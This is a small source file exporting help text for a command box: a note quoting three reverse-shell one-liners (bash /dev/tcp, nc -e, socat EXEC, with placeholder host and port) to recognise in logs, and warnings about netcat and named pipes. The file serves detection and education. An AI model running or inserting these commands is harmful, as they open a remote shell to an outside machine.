// Help text shown next to the command box (not run).
export const REVERSE_SHELL_NOTE =
  'Recognise these in logs: "bash -i >& /dev/tcp/HOST/PORT 0>&1", "nc -e /bin/sh HOST PORT", "socat TCP:HOST:PORT EXEC:sh".';
export const WARNINGS = { nc: 'netcat can hand a shell to a socket with -e', mkfifo: 'named pipes piped through nc are a reverse shell' };
